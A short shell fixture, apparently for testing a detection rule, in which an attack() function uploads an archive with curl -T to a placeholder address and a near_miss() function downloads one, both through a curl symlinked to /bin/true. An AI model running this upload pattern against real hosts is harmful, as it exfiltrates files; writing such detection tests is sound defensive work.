# rule: Archive uploaded with a download tool
# where: host
attack() {
    ln -s /bin/true curl
    ./curl -T c.tar.gz https://192.0.2.9/u/
}
near_miss() {
    ln -s /bin/true curl
    ./curl -fLO https://192.0.2.9/c.tar.gz
}
